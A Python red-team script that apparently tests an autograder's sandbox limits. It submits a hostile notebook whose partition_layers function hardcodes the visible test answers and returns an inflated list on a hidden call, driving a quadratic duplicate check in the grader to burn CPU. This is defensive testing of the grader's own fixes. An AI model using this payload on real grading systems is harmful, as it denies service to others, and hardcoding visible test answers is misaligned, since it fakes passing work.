"""a02: re-attack of round 20's fixes (wire.decode refuses ints past 64 bits and more than 64 distinct tuples or dict
keys of one hash; the judges' room: every report decoded and judged in a child of the grading process killed from
outside past 60 s, 10 CPU-s a report, 30 CPU-s a notebook). No hash games are needed for a quadratic judge: ps1's
`_check_partition_shape` computes `{i for i in flat if flat.count(i) > 1}` (O(N^2), list.count in C) once every layer
is present. partition_layers answers the visible asserts, and on every hidden call returns the right layers followed
by N more small distinct ints, on its first hidden call (all within 64 bits, no two of one hash, a plain list: wire's checks pass). Does the
room stop it at its limits, and does the grading process (outside the sandbox's CPU share) pay more than the 30 CPU-s
a notebook the README promises? Through `python -m grader.grade --course-dir DIR --workers 1`, + an honest student."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common21 import *  # noqa

A = "ps1_memory"
N = int(os.environ.get("N", "300000"))

CELL = f"""
_hidden = [0]
def partition_layers(costs, k):
    visible = {{((1, 2, 3, 4), 2): [[0, 1, 2], [3]], ((5, 5, 5), 3): [[0], [1], [2]], ((5, 5, 5), 1): [[0, 1, 2]]}}
    key = (tuple(costs), k)
    if key in visible:
        return visible[key]
    if k < 1 or k > len(costs):
        raise ValueError("bad k")
    n = len(costs)
    _hidden[0] += 1
    if _hidden[0] == 1:  # the first hidden case only (try 1, every case: the observer's 120 s and 2M-item caps hit first)
        return [list(range(n)) + list(range(n, n + {N}))] + [[] for _ in range(k - 1)]
    return [list(range(n))] + [[] for _ in range(k - 1)]
"""


def hostile():
    return notebook(overrides={"partition_layers": CELL}, assignment=A)


def main():
    r = r18_runner("/tmp/attack21-a02-", A)
    h = honest(A)
    import json as _json
    original_cleanup = r.cleanup

    def show_then_cleanup(dest):
        path = os.path.join(dest, "autograded", "mallory", A, f"{A}.ipynb")
        if os.path.exists(path):
            for c in _json.load(open(path))["cells"]:
                gid = c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")
                if gid.startswith("partition_layers_"):
                    for o in c.get("outputs", []):
                        print("mallory", gid, o.get("output_type"), (o.get("ename"), str(o.get("evalue"))[:300]))
        rp = os.path.join(dest, "grading_report.json")
        if os.path.exists(rp):
            print(open(rp).read()[:2000])
        original_cleanup(dest)

    r.cleanup = show_then_cleanup
    r.run(f"N{N}", {"mallory": hostile(), "zz_honest": h}, 1)


if __name__ == "__main__":
    main()
